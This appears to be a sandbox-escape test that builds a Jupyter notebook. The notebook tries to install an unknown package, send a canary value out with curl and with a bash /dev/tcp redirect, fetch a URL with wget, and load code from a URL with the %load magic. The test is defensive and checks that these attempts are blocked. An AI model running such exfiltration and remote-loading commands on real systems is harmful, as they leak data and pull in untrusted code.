# tries: installs packages, reads addresses and runs shells by magics and line escapes
# success: a package comes, or an address answers
# wall: no network, and a read-only environment
# expect: scored
from __future__ import annotations

from world import World


def notebook(world: World) -> bytes:
    address = f"http://127.0.0.1:{world.outside['tcp']}/"
    return world.notebook(
        "%pip install --retries 0 --timeout 1 evil-package-of-nobody",
        f"!curl -s {address}$canary; wget -qO- {address} ; cat /dev/null",
        f"%%bash --no-raise-error\n(echo $canary > /dev/tcp/127.0.0.1/{world.outside['tcp']}) 2>/dev/null; true",
        "%load_ext autoreload",
        f"try:\n    get_ipython().run_line_magic('load', '{address}')\nexcept Exception:\n    pass",
    )
